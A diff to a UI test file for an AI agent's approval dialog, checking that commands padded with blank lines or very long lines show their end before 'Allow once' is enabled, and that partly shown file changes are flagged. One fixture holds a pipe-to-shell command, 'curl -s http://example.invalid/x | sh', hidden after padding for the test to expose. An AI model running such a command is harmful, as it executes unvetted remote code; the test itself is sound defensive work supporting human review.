@@ -1,6 +1,7 @@
 /** Questions that a person answers on the page, and text that a person is still writing. */
 import t from 'tap';
 import { foldBlankLines } from '../../src/lib/index.ts';
+import { askedChange, partsToSee } from '../../src/ui/views/chat/data/diff-rows.ts';
 import { callTool, say, script } from '../agent/scripted-provider.ts';
 import { box, button, chatStage, write } from './chat-scene.ts';
 import { axe } from './scene.ts';
@@ -11,6 +12,7 @@ const { scene } = await chatStage();
 t.test('a run of blank lines is one line with its number of line breaks', async (t) => {
   t.equal(foldBlankLines(`ls${'\n'.repeat(60)}curl`), 'ls\n⏎ × 60\ncurl');
   t.equal(foldBlankLines(`ls${'\n \t\u3000'.repeat(9)}\ncurl`), 'ls\n⏎ × 10\ncurl');
+  t.equal(foldBlankLines(`ls${'\n\u2800'.repeat(60)}\ncurl`), 'ls\n⏎ × 61\ncurl');
   t.equal(foldBlankLines('a\n\n\nb'), 'a\n\n\nb', 'short ones stay');
 });
 
@@ -37,31 +39,72 @@ scene(
     await approval.getByText('61 lines', { exact: true }).waitFor();
     const pipe = approval.getByText('curl -s http://example.invalid/x | sh');
     t.ok(await pipe.evaluate((element) => element.getBoundingClientRect().bottom < innerHeight), 'its end is in view');
-    await shows(t, 'equal', () => button(page, 'Allow').isEnabled(), true);
+    await shows(t, 'equal', () => button(page, 'Allow once').isEnabled(), true);
     await button(page, 'Decline').click();
     await page.locator('.answer', { hasText: 'Declined.' }).waitFor();
 
     await write(page, 'Run the long one');
     await approval.getByText(/^121 lines, \d+ more below$/).waitFor();
     await shows(t, 'equal', () => button(page, 'Decline').isEnabled(), true);
-    t.equal(await button(page, 'Allow').isEnabled(), false);
-    t.equal(await button(page, 'Allow for this session').isEnabled(), false);
-    t.equal(await button(page, 'Allow').getAttribute('title'), 'Read the request to its end first');
+    t.equal(await button(page, 'Allow once').isEnabled(), false);
+    t.equal(await button(page, 'Allow this command in this conversation').isEnabled(), false);
+    t.equal(await button(page, 'Allow once').getAttribute('title'), 'Read the request to its end first');
     t.same(await axe(page), []);
     await button(page, 'Show all').click();
     await approval.getByText('121 lines', { exact: true }).waitFor();
-    t.equal(await button(page, 'Allow').isEnabled(), false, 'a longer box does not show the end by itself');
+    t.equal(await button(page, 'Allow once').isEnabled(), false, 'a longer box does not show the end by itself');
     await approval.locator('.end-mark').first().scrollIntoViewIfNeeded();
-    await button(page, 'Allow').click();
+    await button(page, 'Allow once').click();
     await page.locator('.answer', { hasText: 'It ran.' }).waitFor();
 
     await write(page, 'And write');
     await approval.locator('.diff .added', { hasText: 'line' }).first().waitFor();
     await shows(t, 'equal', () => button(page, 'Decline').isEnabled(), true);
-    t.equal(await button(page, 'Allow').isEnabled(), false, 'the end of the change was not in view');
+    t.equal(await button(page, 'Allow once').isEnabled(), false, 'the end of the change was not in view');
     await approval.locator('.diff .end-mark').scrollIntoViewIfNeeded();
-    await button(page, 'Allow').click();
+    await button(page, 'Allow once').click();
     await page.locator('.answer', { hasText: 'Written.' }).waitFor();
+  },
+);
+
+t.test('regression: H51 a change that is not shown whole is never seen', async (t) => {
+  const head = '--- f\n+++ f\n@@ -0,0 +1,1 @@\n+one';
+  const shown = askedChange(null, `${head}\n\\ Not shown: 9 more lines`);
+  t.equal(shown.rows?.at(-1)?.text, 'one', 'its rows are shown');
+  t.same(partsToSee(shown), ['target', 'change', 'unshown']);
+  for (const preview of [
+    '--- f\n+++ f\n\\ Not shown: the file is too large to compare',
+    `${head}\n… and 9 more lines`,
+    `${head}\n+two`,
+  ]) {
+    t.ok(partsToSee(askedChange(null, preview)).includes('unshown'), preview);
+  }
+  t.same(partsToSee(askedChange(null, head)), ['target', 'change'], 'positive control');
+  t.same(partsToSee(askedChange(null, undefined)), ['target'], 'a command has no change');
+});
+
+scene(
+  'regression: H51 the end of a long line of a change is in view',
+  {
+    provider: script(
+      callTool('WriteFile', { path: 'a.sh', content: `ls${' '.repeat(900)}; echo END${'x'.repeat(900)}LAST\n` }),
+      say('Declined.'),
+    ),
+  },
+  async (t, { page }) => {
+    await write(page, 'Write it');
+    const line = page.getByRole('region', { name: 'Approval' }).locator('.diff .added code');
+    await line.waitFor();
+    const box = await line.evaluate((element) => ({
+      width: element.closest('.diff')?.scrollWidth,
+      visible: element.closest('.diff')?.clientWidth,
+      height: element.getBoundingClientRect().height,
+    }));
+    t.equal(box.width, box.visible, 'nothing is beyond the right edge');
+    t.ok(box.height > 60, 'the line continues on further ones');
+    await shows(t, 'equal', () => button(page, 'Allow once').isEnabled(), true);
+    await button(page, 'Decline').click();
+    await page.locator('.answer', { hasText: 'Declined.' }).waitFor();
   },
 );
 
